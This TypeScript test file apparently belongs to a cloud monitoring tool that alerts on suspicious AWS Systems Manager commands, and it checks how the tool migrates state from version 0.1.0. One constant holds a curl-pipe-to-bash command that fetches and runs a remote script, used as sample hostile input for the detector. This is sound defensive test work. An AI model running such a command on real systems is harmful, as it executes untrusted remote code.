import type { Lambda } from '../../emulators/lambda-runtime'
import type { Mail } from '../../emulators/mailbox'
import { startSsmStub } from '../../emulators/ssm-stub'
import {
  heartbeatEvent,
  MACHINE,
  machines,
  nativeCommandEvent,
  processEvent,
  REGION,
  sendCommandEvent,
  startSessionEvent,
} from '../../support/aws-events'
import { startAwsWorld, TABLE, taken, type AwsWorld } from '../../support/aws-world'
import { runwarden, type Ran } from '../../support/command-line'
import { clockAt, kindsOf, putItems, storedInDynamo } from '../../support/stored-state'

/** Minutes after the state was stored, within the same hour, and before the commands of a heartbeat. */
const SOON = '2026-03-02T10:20:00.000Z'
/** All deferred work is due, and none is a day old. */
const LATER = '2026-03-02T12:10:00.000Z'
/** Hour of the state, as its keys name it: 2026-03-02T10. */
const HOUR = '492346'
const DOWNLOAD = 'curl -s http://203.0.113.9/setup.sh | bash'

const stored = storedInDynamo()

let world: AwsWorld

// The state is stored once: every test has callers, commands and machines of its own.
beforeAll(async () => {
  world = await startAwsWorld({ settings: { ...clockAt(SOON), RUNWARDEN_INSTALLED_AT: '' } })
  await putItems(world.environment['AWS_ENDPOINT_URL_DYNAMODB'] ?? '', TABLE, stored.rows)
})

afterAll(() => world.stop())

afterEach(() => world.alerts.read())

const id = (number: number): string => `00000000-0000-0000-0010-${String(number).padStart(12, '0')}`

const knowText = (commandId: string, text: string): void =>
  void world.ssm.state.commands.push({
    CommandId: commandId,
    DocumentName: 'AWS-RunShellScript',
    Parameters: { commands: [text] },
  })

const give = async (container: Lambda, event: unknown): Promise<void> => void taken(await container.invoke(event))

/** The mail that has come; waits for one. */
const onlyMail = async (): Promise<Mail> => {
  const mails = await world.alerts.read({ atLeast: 1 })
  expect(mails).toHaveLength(1)
  return mails[0]!
}

const callerIn = ({ body }: Mail): string | undefined => /^Key \S+:(\S+?)\|/m.exec(body)?.[1]

const rulesIn = ({ attributes }: Mail): readonly string[] =>
  (JSON.parse(attributes['rule'] ?? '[]') as readonly string[]).map((rule) => rule.replace(/^runwarden\.\w+\./, ''))

const alertIdIn = ({ body }: Mail): string | undefined => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[1]

/** The id under which 0.1.0 sent its alert about a caller. */
const sentBefore = (caller: string): string | undefined => {
  const alerts = stored.rows.flatMap(({ alert }) => (alert?.S?.includes(`:${caller}|`) === true ? [alert.S] : []))
  return /"id":"([0-9a-f]{32})"/.exec(alerts[0] ?? '')?.[1]
}

const deferredKeys = async (): Promise<readonly string[]> =>
  (await world.items()).flatMap(({ pk, sk }) => (pk?.S === 'deferred' ? [sk?.S ?? ''] : []))

describe('the state of 0.1.0', () => {
  it('is here in every kind', () => {
    const keys = stored.rows.map(({ pk, sk }) =>
      pk?.S === 'deferred' ? ([true, sk?.S ?? ''] as const) : ([false, pk?.S ?? ''] as const),
    )
    expect(kindsOf(keys)).toEqual([
      'activity',
      'alert',
      'call',
      'deferred amend',
      'deferred digest',
      'deferred judge',
      'deferred native',
      'deferred resend',
      'deferred text',
      'held',
      'installation',
      'ledger',
      'native',
      'native-events',
      'notice',
      'rate',
      'selftest',
      'term',
      'window',
    ])
  })

  it('makes its callers known, and nobody else', async () => {
    for (const role of ['Known', 'Unknown'])
      await world.deliver(startSessionEvent(MACHINE, { role, time: '2026-03-03T09:00:00Z' }))
    const mail = await onlyMail()
    expect([callerIn(mail), rulesIn(mail)]).toEqual(['role/Unknown', expect.arrayContaining(['first-seen-caller'])])
  })

  it('has a repeat counted, and the second one sent with the number of both', async () => {
    const repeat = async (number: number): Promise<void> => {
      knowText(id(number), DOWNLOAD)
      await world.deliver(sendCommandEvent({ commandId: id(number), role: 'Repeat', time: '2026-03-02T10:10:00Z' }))
    }
    await repeat(301)
    expect(await world.alerts.read()).toEqual([])
    expect(world.logs().at(-1)).toMatchObject({ AlertsCounted: 1 })
    await repeat(302)
    const mail = await onlyMail()
    expect([mail.attributes['kind'], mail.body]).toEqual(['escalation', expect.stringContaining('2 repeats')])
  })

  it('recognises what was delivered before', async () => {
    await world.deliver(stored.delivered['redelivered'])
    expect(world.logs().at(-1)).toMatchObject({ RecordsReceived: 1, RecordsDuplicate: 1 })
    expect(await world.alerts.read()).toEqual([])
  })

  it('gives back the right to send that a failed run had claimed', async () => {
    await world.deliver(stored.delivered['unsent'])
    expect(callerIn(await onlyMail())).toBe('role/Unsent')
  })

  it('counts the machines of the window on', async () => {
    const [fourth = ''] = machines(4, 'a').slice(3)
    await world.deliver(startSessionEvent(fourth, { role: 'Many', time: '2026-03-02T10:12:00Z' }))
    const mail = await onlyMail()
    expect([callerIn(mail), rulesIn(mail)]).toEqual(['role/Many', expect.arrayContaining(['mass-execution'])])
    expect(mail.body).toContain('4 machines')
  })

  it('keeps what the other cloud has sent', async () => {
    const options = { role: 'Elsewhere', session: 'bob@example.com', time: '2026-03-02T10:12:00Z' }
    await world.deliver(startSessionEvent(MACHINE, options))
    expect((await onlyMail()).body.replaceAll(/\s+/g, ' ')).toContain('Same person in Azure: bob@example.com: command')
  })

  it('gives a call the text of the native event that came before it', async () => {
    await world.deliver(sendCommandEvent({ commandId: id(122), role: 'NativeFirst', time: '2026-03-02T10:02:59Z' }))
    const mail = await onlyMail()
    expect([callerIn(mail), rulesIn(mail)]).toEqual([
      'role/NativeFirst',
      expect.arrayContaining(['suspicious-command']),
    ])
  })

  it('is found by a native event that comes after its call', async () => {
    await world.deliver(nativeCommandEvent(id(124), [DOWNLOAD], '2026-03-02T10:12:00Z'))
    const mail = await onlyMail()
    expect([callerIn(mail), mail.attributes['kind']]).toEqual(['role/TextLater', 'update'])
    expect(rulesIn(mail)).toContain('suspicious-command')
    expect(alertIdIn(mail)).toBe(sentBefore('role/TextLater'))
  })

  it('is found by a process that comes after its command', async () => {
    await world.deliver(processEvent(id(125), '2026-03-02T10:12:00Z'))
    const mail = await onlyMail()
    expect([callerIn(mail), mail.attributes['kind']]).toEqual(['role/ProcessLater', 'update'])
    expect(rulesIn(mail)).toContain('run-command-confirmed')
    expect(alertIdIn(mail)).toBe(sentBefore('role/ProcessLater'))
  })

  it('keeps a notice from being sent twice within its hour', async () => {
    const noticesAt = async (time: string): Promise<readonly (string | undefined)[]> => {
      const container = await world.another({ ...clockAt(time), RUNWARDEN_HISTORY_DAYS: '0' })
      await give(container, stored.delivered['redelivered'])
      return (await world.operations.read()).map(({ subject }) => subject)
    }
    expect(await noticesAt(SOON)).toEqual([])
    expect(await noticesAt(LATER)).toEqual(['[RUNWARDEN] Settings cannot be read'])
  })

  it('keeps the start of learning', async () => {
    const container = await world.another({ ...clockAt('2026-03-09T10:12:00.000Z'), RUNWARDEN_LEARNING_DAYS: '7' })
    for (const [role, time] of [
      ['StillLearning', '2026-03-09T10:05:00Z'],
      ['Learned', '2026-03-09T10:10:00Z'],
    ] as const)
      await give(container, startSessionEvent(MACHINE, { role, time }))
    expect(callerIn(await onlyMail())).toBe('role/Learned')
  })
})

describe('the report of a self test by 0.1.0', () => {
  /**
   * Runs the command line against a bus behind which the Lambda of 0.1.0 leaves its report under the mark of the event.
   */
  const selftest = async (): Promise<Ran> => {
    const report = stored.rows.find(({ pk }) => pk?.S?.startsWith('selftest/') === true)
    const endpoint = world.environment['AWS_ENDPOINT_URL_DYNAMODB'] ?? ''
    const bus = await startSsmStub({
      trails: [
        {
          Name: 'main',
          TrailARN: `arn:aws:cloudtrail:${REGION}:123456789012:trail/main`,
          HomeRegion: REGION,
          IsMultiRegionTrail: true,
          IsLogging: true,
        },
      ],
      onEvent: ({ detail }) => {
        const { mark } = detail as { readonly mark: string }
        return putItems(endpoint, TABLE, [{ ...report, pk: { S: `selftest/${mark}` } }])
      },
    })
    const before = { ...process.env }
    const clouds = { AWS_ENDPOINT_URL_CLOUDTRAIL: bus.endpoint, AWS_ENDPOINT_URL_EVENTBRIDGE: bus.endpoint }
    Object.assign(process.env, world.environment, clouds)
    try {
      return await runwarden(['selftest', 'aws', '--topic-arn', world.topics.alerts, '--table', TABLE])
    } finally {
      for (const name of Object.keys({ ...world.environment, ...clouds })) delete process.env[name]
      Object.assign(process.env, before)
      await bus.stop()
    }
  }

  it('is read by runwarden selftest', async () => {
    const { code, stdout } = await selftest()
    expect(stdout).toMatch(/^ok {6}function {6}received it \d+ ms later$/m)
    expect(stdout).toMatch(/^ok {6}topic {9}took the test alert \d+ ms after that$/m)
    expect(code).toBe(0)
  })
})

describe('the work that 0.1.0 had deferred', () => {
  const json: string[] = []
  let mails: readonly Mail[] = []
  let later: Lambda

  beforeAll(async () => {
    for (const number of [121, 124]) knowText(id(number), DOWNLOAD)
    await world.json.read()
    later = await world.another({ ...clockAt(LATER), RUNWARDEN_JSON_TOPIC_ARN: world.topics.json })
    await give(later, heartbeatEvent())
    mails = await world.alerts.read({ atLeast: 5 })
    json.push(...(await world.json.read({ atLeast: 1 })).map(({ body }) => body))
  })

  const mailAbout = (caller: string): Mail => {
    const found = mails.filter((mail) => callerIn(mail) === caller)
    expect(found).toHaveLength(1)
    return found[0]!
  }

  it('is all done by the next heartbeat', async () => {
    expect(await deferredKeys()).toEqual([])
    expect(await world.peek(world.queues.quarantine)).toEqual([])
    expect(later.logs().join('\n')).not.toContain('ChoreFailures')
  })

  it('judge: a process whose command never came is reported', () => {
    const mail = mails.find((mail) => rulesIn(mail).includes('unexpected-agent-child'))
    expect(mail?.body).toContain(id(120))
  })

  it('amend: a command that was being sent while its process was seen is confirmed, under its alert id', () => {
    const mail = mailAbout('role/InFlight')
    expect([mail.attributes['kind'], alertIdIn(mail)]).toEqual(['update', sentBefore('role/InFlight')])
    expect(rulesIn(mail)).toContain('run-command-confirmed')
  })

  it('text: a command is judged with the text that Systems Manager was too busy to give, under its alert id', () => {
    const mail = mailAbout('role/Busy')
    expect([mail.attributes['kind'], alertIdIn(mail)]).toEqual(['update', sentBefore('role/Busy')])
    expect(rulesIn(mail)).toContain('suspicious-command')
  })

  it('native: a command whose call never came is judged alone, with its text', () => {
    const mail = mails.find(({ body }) => body.includes(id(123)))
    expect(mail).toBeDefined()
    expect(rulesIn(mail!)).toContain('suspicious-command')
  })

  it('digest: the alerts that were rate-limited are sent as one', () => {
    const mail = mails.find(({ attributes }) => attributes['kind'] === 'digest')
    const digest = json.find((body) => body.includes('"kind":"digest"')) ?? ''
    expect(mail?.subject).toMatch(/^\[DIGEST\]/)
    expect(JSON.parse(digest)).toMatchObject({ activities: expect.arrayContaining([id(33), id(34)]) })
  })

  it('resend: the alert that one topic had not taken arrives there, and there alone', () => {
    const resent = json.filter((body) => body.includes(':role/HalfSent|'))
    expect(resent.map((body) => JSON.parse(body))).toEqual([
      expect.objectContaining({ id: sentBefore('role/HalfSent'), kind: 'alert' }),
    ])
    expect(mails.map(callerIn)).not.toContain('role/HalfSent')
  })

  it('leaves nothing for the heartbeat after it', async () => {
    await give(later, heartbeatEvent())
    expect([await world.alerts.read(), await world.json.read()]).toEqual([[], []])
  })
})

// Last, because the digest of its hour, which is put off again, replaces the one that 0.1.0 had deferred.
describe('the alerts that 0.1.0 sent', () => {
  it('count against the limit of their hour', async () => {
    const rate = (await world.items()).find(({ pk }) => pk?.S === `rate/${HOUR}`)?.['members']?.SS ?? []
    expect(rate.length).toBeGreaterThan(1)
    const container = await world.another({ RUNWARDEN_MAX_ALERTS_PER_HOUR: String(rate.length + 1) })
    for (const role of ['LastOfHour', 'TooMany'])
      await give(container, startSessionEvent(MACHINE, { role, time: '2026-03-02T10:12:00Z' }))
    expect(callerIn(await onlyMail())).toBe('role/LastOfHour')
  })
})
